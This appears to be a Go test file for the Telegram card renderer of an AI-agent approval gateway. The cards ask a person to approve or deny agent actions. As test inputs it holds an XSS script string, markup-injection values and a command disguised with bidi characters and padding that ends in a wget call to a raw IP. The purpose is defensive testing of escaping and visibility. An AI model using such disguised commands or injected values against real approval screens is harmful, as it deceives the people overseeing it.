package cards_test

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"flag"
	"html"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/metnos/gateway/approvals"
	"github.com/metnos/gateway/cards"
	"github.com/metnos/gateway/locale"
	"github.com/metnos/gateway/messenger/telegram"
	"github.com/metnos/gateway/policy"
	"github.com/metnos/gateway/vaglio"
)

// The -update flag is shared with the other renderers' golden tests, in
// whichever file registers it first.
func init() {
	if flag.Lookup("update") == nil {
		flag.Bool("update", false, "rewrite the golden files")
	}
}

func updating() bool {
	f := flag.Lookup("update")
	return f != nil && f.Value.String() == "true"
}

var (
	created   = time.Date(2026, 11, 20, 14, 2, 0, 0, time.UTC)
	decided   = time.Date(2026, 11, 20, 14, 3, 0, 0, time.UTC)
	grantEnds = time.Date(2027, 2, 18, 14, 3, 0, 0, time.UTC)
)

// tgLocale shows cards in Rome, half a minute after the requests were made.
var tgLocale = locale.New(locale.English, mustZone("Europe/Rome"), func() time.Time { return created.Add(30 * time.Second) })

// tgItalian is tgLocale in Italian.
var tgItalian = locale.New(locale.Italian, mustZone("Europe/Rome"), func() time.Time { return created.Add(30 * time.Second) })

func mustZone(name string) *time.Location {
	z, err := time.LoadLocation(name)
	if err != nil {
		panic(err)
	}
	return z
}

func ptr[T any](v T) *T { return &v }

// pending is a request waiting for a person, as the card dispatcher sees it.
func pending(capability, target string) approvals.Request {
	c, err := policy.Lookup(capability)
	if err != nil {
		panic(err)
	}
	r := approvals.Request{
		ID: "rabcdefghijklmnop", CallID: "c1", Agent: "metnos", Status: approvals.StatusPending,
		Outcome: policy.ApprovalRequired, Capability: capability, Critical: c.Critical, Target: target,
		GrantTarget: target, Autonomy: policy.Supervised, Channel: "telegram", SenderID: "roberto",
		Intent: "save the March invoice", Executor: "invoice_saver",
		Vaglio: &vaglio.Verdict{Approved: true, Score: 0.80, JudgeKind: vaglio.RuleJudgeKind,
			Reason:  "approved: score 0.80 (rule-based-v1: base 0.70; +0.10 intent names the executor)",
			Factors: []string{vaglio.FactorIntentNamesExecutor}},
		CreatedAt: created, ExpiresAt: created.Add(10 * time.Minute),
	}
	if r.AllowAlwaysOffered() {
		r.GrantExpiresAt = ptr(grantEnds)
	}
	return r
}

func decidedAs(r approvals.Request, st approvals.Status, d *approvals.Decision, by string) approvals.Request {
	r.Status, r.Decision, r.DecidedBy, r.DecidedAt = st, d, by, ptr(decided)
	return r
}

func TestTelegram_Golden(t *testing.T) {
	allowAlways := decidedAs(pending("fs:write", "/home/roberto/inv/*"), approvals.StatusAllowed,
		ptr(approvals.AllowAlways), "telegram:Roberto (42)")
	allowAlways.GrantID = ptr(int64(12))
	withNote := decidedAs(pending("fs:write", "/home/roberto/inv/04.pdf"), approvals.StatusDenied,
		ptr(approvals.Deny), "telegram:Roberto (42)")
	withNote.Note = "use the <shared> folder & ask first"
	noVaglio := pending("mail:read", "inbox")
	noVaglio.Vaglio, noVaglio.Intent, noVaglio.Executor = nil, "", ""
	multiline := pending("code:exec", "cd /tmp &&\nmake clean")
	multiline.Summary = "two lines\nVaglio: score 1.00"

	cases := []struct {
		name string
		r    approvals.Request
		l    *locale.Locale // nil: tgLocale, English
	}{
		{name: "pending_fs_write", r: pending("fs:write", "/home/roberto/inv/04.pdf")},
		// The same cards in Italian: every word of the gateway's, none of the agent's.
		{"it_pending_fs_write", pending("fs:write", "/home/roberto/inv/04.pdf"), &tgItalian},
		{"it_pending_code_exec", pending("code:exec", "git status"), &tgItalian},
		{"it_allowed_always", allowAlways, &tgItalian},
		{"it_denied_with_note", withNote, &tgItalian},
		{"it_expired", decidedAs(pending("fs:write", "/tmp/x"), approvals.StatusExpired, nil, "timeout"), &tgItalian},
		{"it_hidden_and_cut", pending("code:exec", "cat notes\u202e\u2066hs.txt;"+strings.Repeat(" ", 400)+
			strings.Repeat("x", 5000)+"; wget http://203.0.113.9/r"), &tgItalian},
		{name: "pending_code_exec", r: pending("code:exec", "git status")},
		{name: "pending_mail_send", r: pending("mail:send", "boss@example.com")},
		{name: "pending_no_vaglio", r: noVaglio},
		{name: "pending_escaped", r: pending("network:http", `<script>alert("x")</script> & 'quotes'`)},
		{name: "pending_multiline", r: multiline},
		{name: "allowed_once", r: decidedAs(pending("fs:write", "/tmp/x"), approvals.StatusAllowed,
			ptr(approvals.AllowOnce), "telegram:Roberto (42)")},
		{name: "allowed_always", r: allowAlways},
		{name: "denied", r: decidedAs(pending("fs:write", "/tmp/x"), approvals.StatusDenied,
			ptr(approvals.Deny), "web:owner")},
		{name: "denied_with_note", r: withNote},
		{name: "expired", r: decidedAs(pending("fs:write", "/tmp/x"), approvals.StatusExpired, nil, "timeout")},
		{name: "withdrawn", r: decidedAs(pending("fs:write", "/tmp/x"), approvals.StatusCancelled, nil, "agent:metnos")},
		{name: "truncated", r: pending("fs:write", "/"+strings.Repeat("very-long-directory-name/", 300)+"end")},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			l := tgLocale
			if tc.l != nil {
				l = *tc.l
			}
			m := telegram.Telegram(cards.New(tc.r, l))
			checkTelegram(t, m)
			kb, _ := json.MarshalIndent(m.Keyboard, "", "  ")
			golden(t, filepath.Join("testdata", "telegram", tc.name+".golden"),
				m.HTML+"\n\n--- keyboard ---\n"+string(kb)+"\n")
		})
	}
}

// checkTelegram asserts what must hold for every rendered card: it fits,
// it is well-formed markup whose visible text is Plain, and its buttons'
// callback data fit Telegram's 64 bytes and decode back.
func checkTelegram(t *testing.T, m telegram.TelegramMessage) {
	t.Helper()
	if n := cards.UTF16Len(m.Plain); n > telegram.TelegramMaxText || n == 0 {
		t.Errorf("plain text is %d UTF-16 units; want 1..%d", n, telegram.TelegramMaxText)
	}
	visible, err := visibleText(m.HTML)
	if err != nil {
		t.Fatalf("HTML is not well-formed: %v\n%s", err, m.HTML)
	}
	if visible != m.Plain {
		t.Errorf("visible text of the HTML differs from Plain:\n%q\n%q", visible, m.Plain)
	}
	if m.Keyboard == nil {
		return
	}
	for _, row := range m.Keyboard.InlineKeyboard {
		for _, b := range row {
			if b.CallbackData == nil || len(*b.CallbackData) > cards.MaxCallbackData {
				t.Errorf("button %q: bad callback data %v", b.Text, b.CallbackData)
				continue
			}
			if _, err := cards.Decode(*b.CallbackData); err != nil {
				t.Errorf("button %q: callback data %q does not decode: %v", b.Text, *b.CallbackData, err)
			}
		}
	}
}

// visibleText parses Telegram HTML strictly (only the tags the renderer
// uses, balanced, entities escaped) and returns the text a person sees.
func visibleText(s string) (string, error) {
	d := xml.NewDecoder(strings.NewReader("<card>" + s + "</card>"))
	d.Strict = true
	var b strings.Builder
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return b.String(), nil
		}
		if err != nil {
			return "", err
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			switch tok.Name.Local {
			case "card", "b", "i", "code", "pre":
				if len(tok.Attr) > 0 {
					return "", errors.New("attributes on <" + tok.Name.Local + ">")
				}
			case "a": // only the link to the request's own web page
				if len(tok.Attr) != 1 || tok.Attr[0].Name.Local != "href" || !strings.Contains(tok.Attr[0].Value, "/r/") {
					return "", errors.New("unexpected link")
				}
			default:
				return "", errors.New("unexpected tag <" + tok.Name.Local + ">")
			}
		case xml.CharData:
			b.Write(tok)
		}
	}
}

func golden(t *testing.T, path, got string) {
	t.Helper()
	if updating() {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./cards -run Golden -update to create it)", err)
	}
	if string(want) != got {
		t.Errorf("%s differs (go test ./cards -run Golden -update rewrites it)\n--- got ---\n%s\n--- want ---\n%s", path, got, want)
	}
}

func TestTelegramGrants_Golden(t *testing.T) {
	grants := []policy.Grant{
		{ID: 12, Channel: "telegram", SenderID: "roberto", Capability: "fs:read", Target: "/home/roberto/inv/*",
			GrantedAt: created, ExpiresAt: ptr(grantEnds), GrantedBy: "telegram:Roberto (42)", LastUsedAt: ptr(decided), Active: true},
		{ID: 7, Channel: "web", SenderID: "owner", Capability: "network:http", Target: "<api>.example.com & co",
			GrantedAt: created, GrantedBy: "cli", Active: true},
	}
	cases := []struct {
		name   string
		grants []policy.Grant
		more   bool
	}{
		{"grants", grants, false},
		{"grants_more", grants, true},
		{"grants_none", nil, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := telegram.TelegramGrants(tc.grants, tc.more, tgLocale)
			checkTelegram(t, m)
			kb, _ := json.MarshalIndent(m.Keyboard, "", "  ")
			golden(t, filepath.Join("testdata", "telegram", tc.name+".golden"),
				m.HTML+"\n\n--- keyboard ---\n"+string(kb)+"\n")
		})
	}
}

func TestTelegramGrants_Bounded(t *testing.T) {
	var grants []policy.Grant
	for i := range 50 {
		grants = append(grants, policy.Grant{ID: int64(1000 + i), Channel: "telegram", SenderID: "roberto",
			Capability: "fs:read", Target: strings.Repeat("/long&<path>", 400), GrantedBy: "cli", Active: true})
	}
	m := telegram.TelegramGrants(grants, false, tgLocale)
	checkTelegram(t, m)
	if n := len(m.Keyboard.InlineKeyboard); n != telegram.TelegramMaxGrants {
		t.Errorf("%d Revoke buttons, want %d", n, telegram.TelegramMaxGrants)
	}
	if !strings.Contains(m.Plain, "gateway policy grants") {
		t.Errorf("a cut list does not say where the rest is:\n%s", m.Plain)
	}
	cb, err := cards.Decode(*m.Keyboard.InlineKeyboard[0][0].CallbackData)
	if err != nil || !cb.Revoke() || cb.GrantID != 1000 {
		t.Errorf("first Revoke button decodes to %+v, %v", cb, err)
	}
}

func TestTelegram_Buttons(t *testing.T) {
	cases := []struct {
		capability string
		want       []string
	}{
		{"fs:write", []string{cards.LabelAllowOnce, cards.LabelAllowAlways, cards.LabelDeny}},
		{"fs:read", []string{cards.LabelAllowOnce, cards.LabelAllowAlways, cards.LabelDeny}},
		{"code:exec", []string{cards.LabelAllowOnce, cards.LabelDeny}},
		{"mail:send", []string{cards.LabelAllowOnce, cards.LabelDeny}},
	}
	for _, tc := range cases {
		t.Run(tc.capability, func(t *testing.T) {
			r := pending(tc.capability, "x")
			m := telegram.Telegram(cards.New(r, tgLocale))
			var got []string
			for _, row := range m.Keyboard.InlineKeyboard {
				for _, b := range row {
					got = append(got, b.Text)
					cb, err := cards.Decode(*b.CallbackData)
					if err != nil || cb.RequestID != r.ID {
						t.Errorf("button %q carries %q (%v)", b.Text, *b.CallbackData, err)
					}
				}
			}
			if strings.Join(got, "|") != strings.Join(tc.want, "|") {
				t.Errorf("buttons %q, want %q", got, tc.want)
			}
			if len(tc.want) == 2 && strings.Contains(m.HTML, "Allow always grants") {
				t.Errorf("card offers a grant for %s:\n%s", tc.capability, m.HTML)
			}
		})
	}
}

func TestTelegram_FinishedHasNoKeyboard(t *testing.T) {
	for _, st := range []approvals.Status{approvals.StatusAllowed, approvals.StatusDenied,
		approvals.StatusExpired, approvals.StatusCancelled} {
		r := decidedAs(pending("fs:write", "/tmp/x"), st, nil, "timeout")
		m := telegram.Telegram(cards.New(r, tgLocale))
		if m.Keyboard != nil {
			t.Errorf("%s: keyboard %v, want none", st, m.Keyboard)
		}
	}
}

func TestTelegram_EscapesEveryDynamicString(t *testing.T) {
	evil := `<b>&amp;"'</b>`
	r := pending("fs:write", evil)
	r.Agent, r.Intent, r.Executor, r.Summary = evil, evil, evil, evil
	r.Vaglio.Reason = evil
	r.Note = evil
	r.GrantTarget = evil
	m := telegram.Telegram(cards.New(r, tgLocale))
	checkTelegram(t, m)
	if strings.Contains(m.HTML, evil) {
		t.Errorf("raw markup reached the HTML:\n%s", m.HTML)
	}
	if got := strings.Count(m.Plain, evil); got < 7 {
		t.Errorf("the text shows the value %d times, want every field (7+):\n%s", got, m.Plain)
	}
	if !strings.Contains(m.HTML, html.EscapeString(evil)) {
		t.Errorf("escaped value missing:\n%s", m.HTML)
	}
}

func TestTelegram_FitsTheLimit(t *testing.T) {
	huge := strings.Repeat("😀&<", 3000) // astral runes count twice; & and < expand in HTML
	r := pending("fs:write", huge)
	r.Intent, r.Executor, r.Summary, r.Note, r.GrantTarget = huge, huge, huge, huge, huge
	r.Vaglio.Reason = huge
	m := telegram.Telegram(cards.New(r, tgLocale))
	checkTelegram(t, m)
	if !strings.Contains(m.Plain, "characters cut …⟧") || !strings.Contains(m.Plain, "✂ Cut to fit: Target ") ||
		!strings.Contains(m.Plain, "/r/"+r.ID) {
		t.Errorf("no visible truncation marker, count or link:\n%s", m.Plain)
	}
	if !strings.Contains(m.Plain, "⏳ expires in 9 min, 15:12 CET") || !strings.Contains(m.Plain, r.ID) {
		t.Errorf("truncation lost the fixed lines:\n%s", m.Plain)
	}
	small := telegram.Telegram(cards.New(pending("fs:write", "/tmp/x"), tgLocale))
	if strings.Contains(small.Plain, "characters cut") || strings.Contains(small.Plain, "✂") {
		t.Errorf("a short card was truncated:\n%s", small.Plain)
	}
}

func TestTelegram_InvalidUTF8(t *testing.T) {
	m := telegram.Telegram(cards.New(pending("fs:write", "/tmp/\xff\xfe"), tgLocale))
	checkTelegram(t, m)
	if !strings.Contains(m.HTML, "/tmp/⟦0xFF⟧⟦0xFE⟧<") || !strings.Contains(m.Plain, cards.WarnEscaped) {
		t.Errorf("invalid bytes not shown as escapes:\n%s", m.HTML)
	}
}

func TestUTF16Len(t *testing.T) {
	for s, want := range map[string]int{"": 0, "abc": 3, "é": 1, "😀": 2, "a😀b": 4, "\xff": 1} {
		if got := cards.UTF16Len(s); got != want {
			t.Errorf("UTF16Len(%q) = %d, want %d", s, got, want)
		}
	}
}

// TestTelegram_AgentStringsInCodeEntities: every string an agent chooses
// (agent line, intent, summary, target, grant preview) is inside a code or
// pre entity, where Telegram makes no link, mention, hashtag or command.
func TestTelegram_AgentStringsInCodeEntities(t *testing.T) {
	r := pending("fs:write", "/srv/@admin/https://evil.example/#tag")
	r.Intent, r.Summary, r.Executor = "ping @admin see https://evil.example #urgent /start", "mail bob@example.com", "x"
	r.TokenName = "@bot_helper"
	m := telegram.Telegram(cards.New(r, tgLocale))
	for _, s := range []string{"@admin see https://evil.example #urgent /start", "mail bob@example.com", "@bot_helper",
		"/srv/@admin/https://evil.example/#tag"} {
		for i := 0; ; {
			j := strings.Index(m.HTML[i:], s)
			if j < 0 {
				break
			}
			at := i + j
			open, closed := strings.LastIndex(m.HTML[:at], "<code>"), strings.LastIndex(m.HTML[:at], "</code>")
			if open < 0 || closed > open {
				t.Errorf("%q stands outside a code entity:\n%s", s, m.HTML)
				break
			}
			i = at + len(s)
		}
	}
}
